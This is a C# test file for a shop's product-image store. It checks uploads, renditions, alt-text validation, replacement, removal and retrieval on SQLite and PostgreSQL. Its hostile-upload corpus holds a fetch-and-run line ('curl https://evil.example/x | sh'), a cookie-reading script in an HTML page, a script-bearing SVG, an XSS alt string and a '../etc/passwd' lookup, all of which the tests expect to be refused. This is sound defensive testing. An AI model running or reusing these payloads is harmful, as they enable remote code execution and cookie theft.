using Checkout.Data.Catalog;
using Checkout.Data.Catalog.Images;
using Checkout.Data.Common;
using Checkout.Data.Persistence;
using Checkout.Tests.Builders;
using Microsoft.EntityFrameworkCore;
using SkiaSharp;
using static Checkout.Tests.Catalog.ProductImageCorpus;

namespace Checkout.Tests.Catalog;

/// <summary>
/// <see cref="ProductImageStore"/> on each database engine: a good upload becomes one row per rendition and the
/// product's version, a new one replaces them all, a refused one (the corpus's hostile and broken files) stores nothing
/// and keeps the picture there was, and a reader gets the rendition nearest the width it asks for. The pictures live in
/// the database, so every instance of the shop serves the same ones with nothing to copy.
/// </summary>
public abstract class ProductImageStoreTests(DatabaseProvider provider) : ProviderTests(provider)
{
    [Fact]
    public async Task SetAsync_GoodPicture_StoresEachRenditionAndTheVersion_WithTheNameAsItsAlt()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var photo = Photo(800, 600);
        var expected = ResultAssert.Success(ProductImageProcessor.Process(photo));

        var image = ResultAssert.Success(await Store(shop).SetAsync("MUG", new MemoryStream(photo), alt: null, "admin@example.com"));

        var version = ProductImageStore.VersionOf(expected.Largest.ETag);
        Assert.Equal(("MUG", version, "Product MUG"), (image.Sku, image.Version, image.Alt));
        Assert.Equal([(160, 120), (320, 240), (640, 480)], image.Sizes.Select(s => (s.Width, s.Height)));
        var rows = await RowsAsync(shop, "MUG");
        Assert.Equal(expected.Renditions.Select(r => (r.Width, r.Height, r.ContentType, r.ETag)), rows.Select(r => (r.Width, r.Height, r.ContentType, r.ETag)));
        Assert.All(rows.Zip(expected.Renditions), pair => Assert.Equal(pair.Second.Bytes, pair.First.Bytes));
        Assert.Equal((version, "Product MUG"), await PictureOfAsync(shop, "MUG"));
        Assert.DoesNotContain('"', version);
    }

    [Fact]
    public async Task SetAsync_WithAnAlt_KeepsItOnOneLine()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");

        var image = ResultAssert.Success(await Store(shop).SetAsync("MUG", new MemoryStream(Photo(300, 200)), "  A blue mug\n on an oak   table ", "admin@shop"));

        Assert.Equal("A blue mug on an oak table", image.Alt);
        Assert.Equal("A blue mug on an oak table", (await PictureOfAsync(shop, "MUG")).Alt);
    }

    /// <summary>Each bad file of <see cref="BadUploads"/>, with the refusal it gets.</summary>
    public static TheoryData<string, string> BadFiles => new()
    {
        { "empty", ErrorCodes.ImageEmpty },
        { "script renamed .png", ErrorCodes.ImageUnsupportedFormat },
        { "HTML page", ErrorCodes.ImageUnsupportedFormat },
        { "SVG with a script", ErrorCodes.ImageUnsupportedFormat },
        { "GIF", ErrorCodes.ImageUnsupportedFormat },
        { "one byte over the limit", ErrorCodes.ImageTooLarge },
        { "PNG declaring 50,000 × 50,000 pixels", ErrorCodes.ImageDimensionsTooLarge },
        { "zero-filled 7,000 × 7,000 bomb", ErrorCodes.ImageDimensionsTooLarge },
        { "truncated PNG", ErrorCodes.ImageCorrupt },
        { "JPEG header then garbage", ErrorCodes.ImageCorrupt },
        { "WebP with a wrong chunk", ErrorCodes.ImageCorrupt },
    };

    [Theory]
    [MemberData(nameof(BadFiles))]
    public async Task SetAsync_BadFile_StoresNothing_AndKeepsThePreviousPicture(string file, string code)
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var before = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(400, 300)), "The first picture", "admin@shop"));
        var rowsBefore = await RowsAsync(shop, "MUG");

        var refused = ResultAssert.Failure(await store.SetAsync("MUG", new MemoryStream(BadUploads.Named(file)), "A hostile file", "admin@shop"), code);

        Assert.False(string.IsNullOrWhiteSpace(refused.Message));
        Assert.Equal((before.Version, "The first picture"), await PictureOfAsync(shop, "MUG"));
        var rowsAfter = await RowsAsync(shop, "MUG");
        Assert.Equal(rowsBefore.Select(r => (r.Width, r.ETag, r.CreatedAt)), rowsAfter.Select(r => (r.Width, r.ETag, r.CreatedAt)));
    }

    [Fact]
    public async Task SetAsync_BadFileForAProductWithoutAPicture_StoresNothing()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");

        ResultAssert.Failure(await Store(shop).SetAsync("MUG", new MemoryStream(BadUploads.Named("script renamed .png")), null, "admin@shop"), ErrorCodes.ImageUnsupportedFormat);

        Assert.Empty(await RowsAsync(shop, "MUG"));
        Assert.Equal((null, null), await PictureOfAsync(shop, "MUG"));
    }

    [Fact]
    public async Task SetAsync_UnknownProduct_IsNotFound_AndStoresNothing()
    {
        await using var shop = await CreateShopAsync();

        ResultAssert.Failure(await Store(shop).SetAsync("NOPE", new MemoryStream(Photo(300, 200)), null, "admin@shop"), ErrorCodes.NotFound);

        await using var db = await shop.DbAsync();
        Assert.False(await db.ProductImages.AnyAsync());
    }

    [Theory]
    [InlineData("<b>Bold</b> mug")]
    [InlineData("A mug<script>alert(1)</script>")]
    [InlineData("A\u202Emug")]
    public async Task SetAsync_AltThatIsNotPlainText_IsRefusedBeforeTheFileIsRead(string alt)
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var upload = new MemoryStream(Photo(300, 200));

        ResultAssert.Failure(await Store(shop).SetAsync("MUG", upload, alt, "admin@shop"), ErrorCodes.Validation);

        Assert.Equal(0, upload.Position);
        Assert.Empty(await RowsAsync(shop, "MUG"));
    }

    [Fact]
    public async Task SetAsync_AltOverItsLength_IsRefused_AndAtItsLengthIsKept()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);

        ResultAssert.Failure(await store.SetAsync("MUG", new MemoryStream(Photo(300, 200)), new string('a', Product.MaxImageAltLength + 1), "admin@shop"), ErrorCodes.Validation);
        var image = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(300, 200)), new string('a', Product.MaxImageAltLength), "admin@shop"));

        Assert.Equal(Product.MaxImageAltLength, image.Alt!.Length);
    }

    [Fact]
    public async Task SetAsync_ANewPicture_ReplacesEveryRenditionOfTheOld()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var first = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(1600, 1200)), null, "admin@shop"));
        Assert.Equal([160, 320, 640, 1280], first.Sizes.Select(s => s.Width));

        var second = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(PngWithAlpha(200, 100)), "A red disc", "admin@shop"));

        Assert.NotEqual(first.Version, second.Version);
        var rows = await RowsAsync(shop, "MUG");
        Assert.Equal([(160, 80)], rows.Select(r => (r.Width, r.Height)));
        Assert.Equal(second.Version, ProductImageStore.VersionOf(rows[0].ETag));
        Assert.Equal((second.Version, "A red disc"), await PictureOfAsync(shop, "MUG"));
    }

    [Fact]
    public async Task SetAsync_TwoUploadsAtOnce_LeaveOnePictureWhole()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var (a, b) = (Photo(1300, 900), PngWithAlpha(700, 500));

        var results = await Task.WhenAll(
            Task.Run(() => store.SetAsync("MUG", new MemoryStream(a), "A", "admin@shop")),
            Task.Run(() => store.SetAsync("MUG", new MemoryStream(b), "B", "admin@shop")));

        Assert.All(results, r => ResultAssert.Success(r));
        var (version, alt) = await PictureOfAsync(shop, "MUG");
        var winner = Assert.Single(results, r => r.Value!.Version == version).Value!;
        Assert.Equal(winner.Alt, alt);
        Assert.Equal(winner.Sizes.Select(s => s.Width), (await RowsAsync(shop, "MUG")).Select(r => r.Width));
    }

    [Fact]
    public async Task ChangeAltAsync_KeepsThePictureAndItsVersion()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var image = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(400, 300)), null, "admin@shop"));

        var described = ResultAssert.Success(await store.ChangeAltAsync("MUG", "A mug with a chipped rim", "admin@example.com"));

        Assert.Equal((image.Version, "A mug with a chipped rim"), (described.Version, described.Alt));
        Assert.Equal(image.Sizes, described.Sizes);
        Assert.Equal((image.Version, "A mug with a chipped rim"), await PictureOfAsync(shop, "MUG"));
        Assert.Equal("Product MUG", ResultAssert.Success(await store.ChangeAltAsync("MUG", " ", "admin@shop")).Alt);
    }

    [Fact]
    public async Task ChangeAltAsync_WithoutAPicture_IsRefused()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");

        ResultAssert.Failure(await Store(shop).ChangeAltAsync("MUG", "A mug", "admin@shop"), ErrorCodes.Validation);

        Assert.Equal((null, null), await PictureOfAsync(shop, "MUG"));
    }

    [Fact]
    public async Task RemoveAsync_DeletesTheRenditionsAndTheVersion_AndAgainChangesNothing()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        await shop.AddProductAsync("TOTE");
        var store = Store(shop);
        ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(400, 300)), null, "admin@shop"));
        var tote = ResultAssert.Success(await store.SetAsync("TOTE", new MemoryStream(Photo(400, 300)), null, "admin@shop"));

        var removed = ResultAssert.Success(await store.RemoveAsync("MUG", "admin@example.com"));

        Assert.False(removed.HasImage);
        Assert.Empty(removed.Sizes);
        Assert.Empty(await RowsAsync(shop, "MUG"));
        Assert.Equal((null, null), await PictureOfAsync(shop, "MUG"));
        Assert.Null(await store.GetAsync("MUG", 320));
        Assert.False(ResultAssert.Success(await store.RemoveAsync("MUG", "admin@shop")).HasImage);
        // Another product's picture is its own.
        Assert.Equal(tote.Sizes.Count, (await RowsAsync(shop, "TOTE")).Count);
        ResultAssert.Failure(await store.RemoveAsync("NOPE", "admin@shop"), ErrorCodes.NotFound);
    }

    [Theory]
    [InlineData(160, 160)]
    [InlineData(320, 320)]
    [InlineData(1, 160)]
    [InlineData(161, 320)]
    [InlineData(500, 640)]
    [InlineData(640, 640)]
    [InlineData(1280, 640)]
    [InlineData(4000, 640)]
    public async Task GetAsync_AnswersTheWidthAsked_OrTheNarrowestWider_OrTheWidest(int asked, int served)
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var image = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(800, 600)), null, "admin@shop"));

        var rendition = await store.GetAsync("MUG", asked);

        Assert.NotNull(rendition);
        var row = (await RowsAsync(shop, "MUG")).Single(r => r.Width == served);
        Assert.Equal((served, row.Height, "image/webp", row.ETag, image.Version), (rendition.Width, rendition.Height, rendition.ContentType, rendition.ETag, rendition.Version));
        Assert.Equal(row.Bytes, rendition.Bytes);
    }

    [Fact]
    public async Task GetAsync_UnknownProductOrNoPicture_IsNull()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);

        Assert.Null(await store.GetAsync("MUG", 320));
        Assert.Null(await store.GetAsync("NOPE", 320));
        Assert.Null(await store.GetAsync("../etc/passwd", 320));
    }

    [Fact]
    public async Task FindAsync_ShowsThePicture_OrNone_AndRefusesAnUnknownProduct()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var store = Store(shop);
        var none = ResultAssert.Success(await store.FindAsync("MUG"));
        Assert.Equal(("Product MUG", false, null), (none.ProductName, none.HasImage, none.Alt));

        var image = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(400, 300)), null, "admin@shop"));

        Assert.Equal(image, ResultAssert.Success(await store.FindAsync("MUG")), ViewComparer.Instance);
        ResultAssert.Failure(await store.FindAsync("NOPE"), ErrorCodes.NotFound);
    }

    [Fact]
    public async Task TheStorefrontCatalog_ShowsANewPictureAtOnce_AndItsRemoval()
    {
        await using var shop = await CreateShopAsync();
        await shop.AddProductAsync("MUG");
        var catalog = shop.Get<CatalogService>();
        Assert.Null((await catalog.FindAsync("MUG"))!.ImageVersion);
        var store = Store(shop);

        var image = ResultAssert.Success(await store.SetAsync("MUG", new MemoryStream(Photo(400, 300)), "A mug", "admin@shop"));

        // The fake clock never moves: only the announced change can refresh the snapshot.
        await Eventually.MatchesAsync(async () => await catalog.FindAsync("MUG"), p => p!.ImageVersion == image.Version && p.ImageAlt == "A mug",
            "the catalog shows the new picture");
        ResultAssert.Success(await store.RemoveAsync("MUG", "admin@shop"));
        await Eventually.MatchesAsync(async () => await catalog.FindAsync("MUG"), p => p!.ImageVersion is null, "the catalog shows no picture");
    }

    private static ProductImageStore Store(TestShop shop) => shop.Get<ProductImageStore>();

    private static async Task<List<ProductImage>> RowsAsync(TestShop shop, string sku)
    {
        await using var db = await shop.DbAsync();
        return await db.ProductImages.AsNoTracking().Where(i => i.Sku == sku).OrderBy(i => i.Width).ToListAsync();
    }

    private static async Task<(string? Version, string? Alt)> PictureOfAsync(TestShop shop, string sku)
    {
        await using var db = await shop.DbAsync();
        var product = await db.Products.AsNoTracking().SingleAsync(p => p.Sku == sku);
        return (product.ImageVersion, product.ImageAlt);
    }

    /// <summary>Views compare by their sizes' contents, not by the lists' references.</summary>
    private sealed class ViewComparer : IEqualityComparer<ProductImageView>
    {
        public static readonly ViewComparer Instance = new();

        public bool Equals(ProductImageView? x, ProductImageView? y) =>
            x is not null && y is not null && x with { Sizes = [] } == y with { Sizes = [] } && x.Sizes.SequenceEqual(y.Sizes);

        public int GetHashCode(ProductImageView obj) => obj.Sku.GetHashCode(StringComparison.Ordinal);
    }
}

public sealed class ProductImageStoreTestsOnSqlite() : ProductImageStoreTests(DatabaseProvider.Sqlite);

[Collection(PostgresCollection.Name)]
public sealed class ProductImageStoreTestsOnPostgreSQL() : ProductImageStoreTests(DatabaseProvider.PostgreSQL);

/// <summary>
/// The corpus's hostile and broken uploads by name, built when a test asks (the theories name them, so the large ones
/// cost nothing while the tests are being discovered).
/// </summary>
internal static class BadUploads
{
    public static byte[] Named(string name) => name switch
    {
        "empty" => [],
        "script renamed .png" => "#!/bin/sh\ncurl https://evil.example/x | sh\n"u8.ToArray(),
        "HTML page" => "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"u8.ToArray(),
        "SVG with a script" => """<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"""u8.ToArray(),
        "GIF" => Gif(),
        "PNG declaring 50,000 × 50,000 pixels" => HeaderOnlyBomb(),
        "zero-filled 7,000 × 7,000 bomb" => ZeroFilledBomb(),
        "truncated PNG" => Photo(400, 300, SKEncodedImageFormat.Png)[..2_000],
        "JPEG header then garbage" => JpegHeaderThenGarbage(),
        "WebP with a wrong chunk" => WebpWithWrongChunk(),
        // A PNG's signature, then zeros to one byte more than an upload may have.
        "one byte over the limit" => [.. Photo(64, 64, SKEncodedImageFormat.Png)[..8], .. new byte[ProductImageRules.Default.MaxUploadBytes - 7]],
        // Twice the limit: over the request's own limit too, which the server stops reading at.
        "far over the limit" => new byte[ProductImageRules.Default.MaxUploadBytes * 2],
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, "The corpus has no bad upload of that name."),
    };
}
